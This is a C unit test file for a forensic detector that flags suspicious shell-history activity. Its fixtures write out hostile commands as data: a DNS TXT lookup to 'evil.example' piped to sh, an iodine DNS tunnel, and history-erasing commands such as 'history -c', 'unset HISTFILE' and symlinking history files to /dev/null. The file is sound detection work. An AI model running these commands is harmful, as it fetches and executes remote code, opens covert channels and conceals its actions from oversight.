/* SPDX-License-Identifier: Apache-2.0 */
/*
 * command_session.c - the command detector: what makes one finding, what a
 * session adds, and histories that record nothing.
 */
#include <stdio.h>

#include "command.h"
#include "tap.h"

#define T0 (INT64_C(1795000000) * USEC_PER_SEC) /* 2026-11-18T11:06:40Z */

static void
grouping(void)
{
	struct drive d = drive_new("command");
	struct member m = drive_file(HISTORY);
	const struct finding *f;

	for (uint32_t i = 1; i <= 500; i++) {
		char text[64];
		struct record r;

		(void)snprintf(text, sizeof(text),
		    "dig +short TXT %u.f.Evil.example | sh", i % 7);
		r = command("root", text, i, &m);
		r.basis = i == 1 ? BASIS_EXACT : BASIS_BEFORE;
		r.time = T0;
		drive_see(&d, &r);
	}
	drive_conclude(&d);
	f = drive_found(&d, "command.txt-fetch", "root: evil.example");
	ok(f && f->count == 500 && d.findings->count == 1,
	    "five hundred lines about one domain are one finding");
	ok(f &&
		span_find(f->why,
		    SPAN("TXT answer piped to a shell (TXT01), at "
			 "2026-11-18T11:06:40Z, /root/.bash_history line 1")) >
		    0,
	    "it says what, when and where");
	ok(drive_cites(f, "dig +short TXT 1.f.Evil.example | sh"),
	    "and quotes the bytes");
	ok(f && strstr(f->attack, "T1059.004"), "with the pattern's ATT&CK");
	if (tap_failed)
		drive_dump(&d);
	drive_free(&d);
}

static void
when(void)
{
	static const struct {
		enum time_basis basis;
		const char *text;
	} table[] = {
		{ BASIS_EXACT, ", at 2026-11-18T11:06:40Z, " },
		{ BASIS_BEFORE, ", undated, before 2026-11-18T11:06:40Z, " },
		{ BASIS_WINDOW,
		    ", undated, between 2026-11-18T11:06:40Z and "
		    "2026-11-18T11:06:50Z, " },
		{ BASIS_UNKNOWN, ", undated, " },
	};

	for (size_t i = 0; i < array_size(table); i++) {
		struct drive d = drive_new("command");
		struct member m = drive_file(HISTORY);
		struct record r = command("ann", "history -c", 7, &m);
		const struct finding *f;

		r.basis = table[i].basis;
		r.time = T0;
		r.until = T0 + 10 * USEC_PER_SEC;
		drive_see(&d, &r);
		drive_conclude(&d);
		f = worst_of(&d, NULL, "ann");
		ok(f && span_find(f->why, span_str(table[i].text)) > 0,
		    "time: %s", table[i].text);
		drive_free(&d);
	}
}

struct step {
	const char *who, *text;
	uint32_t line;
	int64_t seconds; /* after T0; -1: undated */
};

/* Returns the severity of the first step's finding. */
static int
session(const struct step *steps, size_t n)
{
	struct drive d = drive_new("command");
	struct member m = drive_file(HISTORY);
	const struct finding *f;
	int severity;

	drive_fact(&d, "user", "root:0:/root:/bin/bash", TIME_NONE);
	drive_fact(&d, "user", "ann:1000:/home/ann:/bin/bash", TIME_NONE);
	drive_fact(
	    &d, "user", "www-data:33:/var/www:/usr/sbin/nologin", TIME_NONE);
	for (size_t i = 0; i < n; i++) {
		struct record r =
		    command(steps[i].who, steps[i].text, steps[i].line, &m);

		if (steps[i].seconds >= 0) {
			r.basis = BASIS_EXACT;
			r.time = T0 + steps[i].seconds * USEC_PER_SEC;
		}
		drive_see(&d, &r);
	}
	drive_conclude(&d);
	f = drive_found(&d, "command.cache-flush", NULL);
	severity = f ? (int)f->severity : -1;
	drive_free(&d);
	return severity;
}

static void
sessions(void)
{
	static const struct step alone[] = { { "ann", "rndc flush", 10, -1 } };
	static const struct step service[] = { { "www-data", "rndc flush", 10,
	    -1 } };
	static const struct step home[] = { { "/var/www", "rndc flush", 10,
	    -1 } };
	static const struct step near[] = {
		{ "root", "rndc flush", 10, -1 },
		{ "ann", "iodine -f t.x.example", 30, -1 },
	};
	static const struct step far[] = {
		{ "root", "rndc flush", 10, -1 },
		{ "ann", "iodine -f t.x.example", 31, -1 },
	};
	static const struct step debugging[] = {
		{ "root", "rndc flush", 10, -1 },
		{ "root", "dig @8.8.8.8 x.example", 11, -1 },
		{ "root", "nslookup -type=txt x.example", 12, -1 },
	};
	static const struct step covering[] = {
		{ "ann", "rndc flush", 10, -1 },
		{ "ann", "history -c", 12, -1 },
	};
	static const struct step soon[] = {
		{ "ann", "rndc flush", 10, 0 },
		{ "ann", "unset HISTFILE", 500, 600 },
	};
	static const struct step late[] = {
		{ "ann", "rndc flush", 10, 0 },
		{ "ann", "unset HISTFILE", 11, 601 },
	};
	static const struct step other[] = {
		{ "ann", "rndc flush", 10, 0 },
		{ "root", "unset HISTFILE", 11, 5 },
	};

	ok(session(alone, 1) == SEV_MEDIUM, "alone: as the pattern says");
	ok(session(service, 1) == SEV_HIGH, "a service account: one step up");
	ok(session(home, 1) == SEV_HIGH, "known by its home: one step up");
	ok(session(near, 2) == SEV_HIGH, "20 lines from an attack: up");
	ok(session(far, 2) == SEV_MEDIUM, "21 lines: not");
	ok(session(debugging, 3) == SEV_MEDIUM, "looking for a fault: not");
	ok(session(covering, 2) == SEV_HIGH, "beside a cleared history: up");
	ok(session(soon, 2) == SEV_HIGH, "within ten minutes: up");
	ok(session(late, 2) == SEV_MEDIUM, "later: not, however near");
	ok(session(other, 2) == SEV_MEDIUM, "another user: not");
}

static void
long_entries(void)
{
	struct drive d = drive_new("command");
	struct member m = drive_file(HISTORY);
	static char text[9000];
	const struct finding *f;
	struct record r;

	memset(text, 'a', sizeof(text) - 1);
	memcpy(text + 4000, "\ndig +short TXT c2.evil.example | sh\n", 37);
	r = command("root", text, 5, &m);
	drive_see(&d, &r);
	drive_conclude(&d);
	f = drive_found(&d, "command.txt-fetch", "root: evil.example");
	ok(drive_cites(f, "dig +short TXT c2.evil.example | sh") &&
		f->cite[0].ref.offset == 500 + 4001,
	    "of a long entry, the line is quoted, by its place");
	ok(f && span_find(f->why, SPAN(" line 6")) > 0, "and numbered");
	drive_free(&d);
}

static struct drive
users(void)
{
	struct drive d = drive_new("command");

	drive_fact(&d, "user", "root:0:/root:/bin/bash", TIME_NONE);
	drive_fact(&d, "user", "ann:1000:/home/ann:/bin/bash", TIME_NONE);
	drive_fact(&d, "user", "bob:1001:/srv/bob:/bin/zsh", TIME_NONE);
	drive_fact(
	    &d, "user", "svc:999:/var/lib/svc:/usr/sbin/nologin", TIME_NONE);
	return d;
}

static void
links(void)
{
	static const struct {
		const char *kind, *what, *text;
		int severity;
	} table[] = {
		{ "symlink", "/root/.bash_history", "/dev/null", SEV_HIGH },
		{ "symlink", "/home/ann/.zsh_history", "/dev/null", SEV_HIGH },
		{ "symlink", "/var/lib/svc/.bash_history", "/dev/null",
		    SEV_MEDIUM },
		{ "symlink", "/root/.mysql_history", "/dev/null", SEV_LOW },
		{ "symlink", "/root/.bash_history", "/dev/shm/.h", SEV_HIGH },
		{ "symlink", "/root/.bash_history", "/tmp/h", SEV_MEDIUM },
		{ "symlink", "/root/.bash_history", "/data/history", -1 },
		{ "symlink", "/root/.bashrc", "/dev/null", -1 },
		{ "special", "/home/ann/.bash_history", "FIFO", SEV_HIGH },
		{ "special", "/dev/null", "device", -1 },
		{ "absent", "/root/.bash_history", "", -1 },
	};

	for (size_t i = 0; i < array_size(table); i++) {
		struct drive d = users();
		const struct finding *f;

		drive_note(&d, table[i].kind, table[i].what, table[i].text);
		drive_conclude(&d);
		f = drive_found(&d, "history.disabled", table[i].what);
		ok((f ? (int)f->severity : -1) == table[i].severity,
		    "%s %s %s: %s", table[i].what, table[i].kind, table[i].text,
		    f ? severity_text(f->severity) : "nothing");
		drive_free(&d);
	}
}

static void
login(struct drive *d, const char *user)
{
	struct record r = { .kind = REC_LOGIN,
		.basis = BASIS_EXACT,
		.time = T0,
		.until = TIME_NONE,
		.login = { .event = LOGIN_BEGIN, .user = span_str(user) } };

	drive_see(d, &r);
}

static void
files(void)
{
	struct drive d = users();
	struct member m = drive_file("[root]/home/ann/.bash_history");

	m.flags = 0x10;
	drive_member(&d, m, SPAN("ls\n"), SIZE_MAX);
	drive_text(&d, "[root]/root/.bash_history", "");
	drive_text(&d, "[root]/srv/bob/.zsh_history", "");
	drive_text(&d, "[root]/var/lib/svc/.bash_history", "");
	login(&d, "bob");
	login(&d, "svc");
	drive_note(&d, "refused", "/srv", "left out");
	drive_conclude(&d);
	ok(drive_found(&d, "history.disabled", "/home/ann/.bash_history"),
	    "an immutable history");
	ok(drive_found(&d, "history.disabled", "/srv/bob/.zsh_history"),
	    "an empty history of a user who was there");
	ok(d.findings->count == 2, "of an unused account, nothing");
	ok(d.findings->gaps == 1 &&
		span_is(d.findings->gap[0].what, "/srv/bob"),
	    "a home that could not be read is a gap");
	drive_free(&d);
}

/* As Debian 12 ships it, in part. */
static const char stock[] =
    "# ~/.bashrc: executed by bash(1) for non-login shells.\n"
    "case $- in\n    *i*) ;;\n      *) return;;\nesac\n"
    "HISTCONTROL=ignoreboth\n# append to the history file\n"
    "shopt -s histappend\nHISTSIZE=1000\nHISTFILESIZE=2000\n"
    "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\n"
    "alias ll='ls -l'\nexport LESSHISTFILE=/dev/null\n";

static void
startup(void)
{
	struct drive d = users();
	const struct finding *f;

	drive_text(&d, "[root]/home/ann/.bashrc", stock);
	drive_conclude(&d);
	ok(drive_worst(&d) <= SEV_INFO, "a stock start-up file: nothing");
	drive_free(&d);
	d = users();
	drive_text(&d, "[root]/srv/bob/.bashrc",
	    "# unset HISTFILE\nexport HISTSIZE=0\n");
	drive_text(&d, "[root]/etc/profile.d/a.sh", "unset HISTFILE\n");
	drive_conclude(&d);
	f = drive_found(&d, "history.disabled", "bob: history size zero");
	ok(f && f->severity == SEV_HIGH && f->count == 1 &&
		drive_cites(f, "export HISTSIZE=0"),
	    "HISTSIZE=0 in a start-up file");
	f = drive_found(
	    &d, "history.disabled", "every user: history variable unset");
	ok(f && f->severity == SEV_HIGH, "unset HISTFILE for every user");
	drive_free(&d);
}

int
main(void)
{
	grouping();
	when();
	sessions();
	long_entries();
	links();
	files();
	startup();
	return done_testing();
}
